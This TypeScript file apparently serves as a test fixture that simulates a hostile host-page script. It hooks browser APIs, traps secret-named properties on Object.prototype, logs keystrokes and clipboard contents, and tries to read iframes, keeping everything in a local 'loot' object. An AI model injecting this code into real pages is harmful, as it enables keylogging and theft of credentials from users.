/** What a hostile script of the host page has taken. */
export interface Loot {
  texts: string[];
  /** Keys pressed where the host page could hear them, as one text. */
  typed: string;
  /** How often each of its hooks was met, so that a hook that never ran is known. */
  met: Record<string, number>;
}

/**
 * Runs in the host page before any other script, as an injected one could at best: every way out of the opener and into
 * the page is hooked, and all that passes is kept. The hooks pass on what they got, so that nobody notices.
 */
export function installHostileScript(hostOrigin: string): void {
  if (location.origin !== hostOrigin) return;
  const loot: Loot = { texts: [], typed: "", met: {} };
  Object.assign(window, { loot });
  const { stringify } = JSON;
  const { apply, construct, defineProperty } = Reflect;
  const write = (value: unknown, depth = 0): string => {
    if (typeof value === "string") return value;
    if (ArrayBuffer.isView(value) || value instanceof ArrayBuffer)
      return String.fromCharCode(...new Uint8Array(ArrayBuffer.isView(value) ? value.buffer : value));
    if (typeof value !== "object" || value === null || depth > 3) return String(value);
    try {
      return stringify(value);
    } catch {
      return "";
    }
  };
  const keep = (hook: string, ...values: unknown[]): void => {
    loot.met[hook] = (loot.met[hook] ?? 0) + 1;
    for (const value of values) loot.texts.push(write(value));
  };

  /** Replaces a function by one that keeps what goes in and what comes out. */
  const hook = (owner: object, name: string): void => {
    const members = owner as Record<string, unknown>;
    const original = members[name];
    if (typeof original !== "function") return;
    const label = `${(owner as { constructor?: { name: string } }).constructor?.name ?? ""}.${name}`;
    members[name] = new Proxy(original, {
      apply(target, self, given: unknown[]) {
        keep(label, ...given);
        const result: unknown = apply(target as () => unknown, self, given);
        if (result instanceof Promise) result.then((value) => keep(label, value)).catch(() => {});
        else keep(label, result);
        return result;
      },
      construct(target, given: unknown[], newTarget) {
        keep(label, ...given);
        return construct(target as unknown as new () => object, given, newTarget as () => unknown) as object;
      },
    });
  };
  const hooks: [object, string[]][] = [
    [window, ["fetch", "postMessage", "setTimeout", "atob", "btoa", "MessageChannel", "Worker", "structuredClone"]],
    [EventTarget.prototype, ["addEventListener", "dispatchEvent"]],
    [XMLHttpRequest.prototype, ["open", "send", "setRequestHeader"]],
    [MessagePort.prototype, ["postMessage", "start", "close"]],
    [WebAssembly, ["instantiate", "instantiateStreaming", "compile", "compileStreaming", "Memory"]],
    [JSON, ["parse", "stringify"]],
    [SubtleCrypto.prototype, ["encrypt", "importKey", "deriveBits", "deriveKey", "exportKey", "generateKey", "digest"]],
    [Crypto.prototype, ["getRandomValues"]],
    [HTMLCanvasElement.prototype, ["getContext", "toDataURL", "toBlob", "captureStream"]],
    [CanvasRenderingContext2D.prototype, ["drawImage", "getImageData", "fillText"]],
    [Navigator.prototype, ["sendBeacon"]],
    [Storage.prototype, ["setItem", "getItem"]],
    [Node.prototype, ["appendChild", "insertBefore"]],
    [Element.prototype, ["append", "setAttribute", "replaceChildren"]],
    [TextEncoder.prototype, ["encode", "encodeInto"]],
    [TextDecoder.prototype, ["decode"]],
    [Array.prototype, ["join"]],
  ];
  for (const [owner, names] of hooks) for (const name of names) hook(owner, name);

  // Whoever assigns one of these to an object without it, or reads it from one, meets the thief.
  for (const name of ["key", "api_key", "credential", "secret", "publicToken", "nonce", "config", "onmessage", "port"])
    defineProperty(Object.prototype, name, {
      configurable: true,
      set(this: object, value: unknown) {
        keep(`Object.prototype.${name}`, value);
        defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });

  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
  defineProperty(MessagePort.prototype, "onmessage", {
    configurable: true,
    get(this: MessagePort): unknown {
      return onmessage?.get?.call(this) as unknown;
    },
    set(this: MessagePort, listener: (event: MessageEvent) => void) {
      onmessage?.set?.call(this, (event: MessageEvent) => {
        keep("MessagePort.onmessage", event.data);
        listener(event);
      });
    },
  });

  for (const type of ["keydown", "keypress", "beforeinput", "input", "paste", "copy", "change", "message", "submit"])
    window.addEventListener(
      type,
      (event) => {
        keep(`event ${type}`, (event as MessageEvent).data);
        if (event instanceof KeyboardEvent && type === "keydown") loot.typed += event.key;
        if (event instanceof ClipboardEvent) keep("clipboard", event.clipboardData?.getData("text"));
      },
      { capture: true },
    );

  /** As session recorders do: the page as text and every frame as far as it lets itself be read. */
  const record = (): void => {
    keep("recorder", document.documentElement.outerHTML);
    for (const frame of document.querySelectorAll("iframe")) {
      for (const steal of [
        () => frame.contentDocument?.documentElement.outerHTML,
        () => frame.contentWindow?.document.documentElement.outerHTML,
        () => frame.contentWindow?.location.href,
        () => (frame.contentWindow as unknown as { Module: unknown }).Module,
        () =>
          document
            .createElement("canvas")
            .getContext("2d")
            ?.drawImage(frame as unknown as CanvasImageSource, 0, 0),
      ])
        try {
          keep("frame read", steal());
        } catch {
          keep("frame refused");
        }
    }
  };
  new MutationObserver(record).observe(document, {
    subtree: true,
    childList: true,
    attributes: true,
    characterData: true,
  });
  window.addEventListener("blur", record);
}
